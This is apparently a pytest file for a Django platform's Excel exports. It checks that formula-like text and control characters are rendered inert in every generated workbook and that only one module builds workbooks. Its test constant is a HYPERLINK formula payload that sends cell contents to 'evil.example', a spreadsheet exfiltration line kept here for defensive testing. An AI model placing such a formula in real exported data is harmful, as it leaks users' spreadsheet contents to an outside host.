"""One writer for every workbook the platform produces (issue #10 item 5): each export is fed a hostile value — a
formula, a leading tab, a control character — and must show it as inert text; no other module builds workbooks."""

import ast
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from socorg.accounts.roles import Role
from socorg.core.testing import api_as, client_as, make_user
from socorg.core.xlsx import XlsxWriter, safe_value
from socorg.coverage.tests import builders
from socorg.ledger.importer import import_ledger
from socorg.ledger.tests.helpers import ORG_HEADERS, org_row, workbook
from socorg.ledger.writers import export_ledger, write_report
from socorg.regions.models import Region
from socorg.registry.models import SocialOrganization

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
CONTROL = "张\x01三\x7f"
SOCORG = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("text", ["=1+1", "+86 138", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_text_starting_like_a_formula_gets_a_quote(text):
    assert safe_value(text) == "'" + text


def test_control_characters_are_replaced_and_other_values_kept():
    assert safe_value(CONTROL) == "张\ufffd三\ufffd"
    assert safe_value("多行\n文本\t中间") == "多行\n文本\t中间"  # tab, line feed inside text are fine
    assert safe_value(3) == 3 and safe_value(None) is None and safe_value("普通文本") == "普通文本"


def test_cells_made_elsewhere_are_made_safe_too():
    book = XlsxWriter()
    sheet = book.create_sheet("表")
    sheet.append([sheet.new_cell(HOSTILE), HOSTILE, CONTROL])
    row = next(load_workbook(io.BytesIO(book.to_bytes())).active.iter_rows(values_only=True))
    assert row == ("'" + HOSTILE, "'" + HOSTILE, "张\ufffd三\ufffd")


def builds_workbooks(node) -> bool:
    if isinstance(node, ast.ImportFrom):
        return (node.module or "").startswith(("openpyxl", "xlsxwriter")) and any(
            alias.name in ("Workbook", "WriteOnlyCell") for alias in node.names)
    return isinstance(node, ast.Import) and any(alias.name.startswith("xlsxwriter") for alias in node.names)


def test_no_module_but_the_writer_builds_workbooks():
    offenders = []
    for path in SOCORG.rglob("*.py"):
        if "tests" in path.parts or (path.name == "xlsx.py" and path.parent.name == "core"):
            continue
        if any(builds_workbooks(node) for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))):
            offenders.append(str(path.relative_to(SOCORG)))
    assert offenders == [], "build workbooks with socorg.core.xlsx.XlsxWriter"


def cells(content) -> list:
    book = load_workbook(content if not isinstance(content, bytes) else io.BytesIO(content))
    return [value for sheet in book for row in sheet.iter_rows(values_only=True) for value in row]


def assert_inert(values: list) -> None:
    texts = [value for value in values if isinstance(value, str)]
    assert "'" + HOSTILE in texts
    assert not any(text.startswith(("=", "+", "-", "@", "\t")) for text in texts)
    assert not any("\x01" in text or "\x7f" in text for text in texts)


@pytest.mark.django_db
def test_the_ledger_export(tmp_path):
    builders.register("530102")
    SocialOrganization.objects.update(name=HOSTILE, legal_representative=CONTROL)  # stored before input checks
    export_ledger(tmp_path / "e.xlsx")
    values = cells(tmp_path / "e.xlsx")
    assert_inert(values) and "张\ufffd三\ufffd" in values


@pytest.mark.django_db
def test_the_ledger_template(tmp_path, monkeypatch):
    from socorg.registry.ledger import OrganizationSheet

    columns = list(OrganizationSheet.columns)
    columns[1] = type(columns[1])(columns[1].header, columns[1].key, columns[1].required, columns[1].parse,
                                  example=HOSTILE, note=CONTROL)
    monkeypatch.setattr(OrganizationSheet, "columns", tuple(columns))
    call_command("ledger_template", str(tmp_path / "t.xlsx"))
    assert_inert(cells(tmp_path / "t.xlsx"))


@pytest.mark.django_db
def test_the_ledger_error_report(tmp_path):
    source = workbook(tmp_path / "l.xlsx", {"社会组织": [ORG_HEADERS, org_row(1), ["bad", HOSTILE, "社会团体"]]})
    book = load_workbook(source)  # make the hostile name a text cell (openpyxl would write it as a formula)
    book["社会组织"]["B3"].data_type = "s"
    book.save(source)
    run = import_ledger(source)
    assert not run.ok
    write_report(source, tmp_path / "r.xlsx", run.errors, run.warnings)
    assert_inert(cells(tmp_path / "r.xlsx"))


@pytest.mark.django_db
def test_the_coverage_export(tmp_path):
    builders.register("530102")
    Region.objects.filter(code="530102").update(name=HOSTILE)
    response = client_as(make_user((Role.VIEWER, "530000"))).get("/coverage/export/", {"region": "530100"})
    assert response.status_code == 200
    assert_inert(cells(response.content))


@pytest.mark.django_db
def test_the_coverage_organizations_export():
    builders.register("530102")
    SocialOrganization.objects.update(name=HOSTILE)
    response = api_as(make_user((Role.VIEWER, "530000"))).get(
        "/api/v1/coverage/orgs/", {"region": "530000", "measure": "org_uncovered", "format": "xlsx"})
    assert response.status_code == 200
    assert_inert(cells(response.content))


def test_openpyxl_alone_would_have_written_a_formula():
    # Why the writer exists: openpyxl turns any text starting with "=" into a formula.
    book = Workbook()
    book.active.append([HOSTILE])
    buffer = io.BytesIO()
    book.save(buffer)
    assert load_workbook(io.BytesIO(buffer.getvalue())).active["A1"].data_type == "f"


def test_the_organization_accounts_workbook():
    from types import SimpleNamespace

    from socorg.accounts.workbooks import org_accounts_workbook

    region = SimpleNamespace(full_name=CONTROL)
    org = SimpleNamespace(uscc="51530102MJ0000001X", name=HOSTILE, authority_region=region)
    issued = [SimpleNamespace(organization=org, username="org_1", password="-Xy7#kq2")]
    values = cells(org_accounts_workbook(issued))
    assert_inert(values) and "'-Xy7#kq2" in values
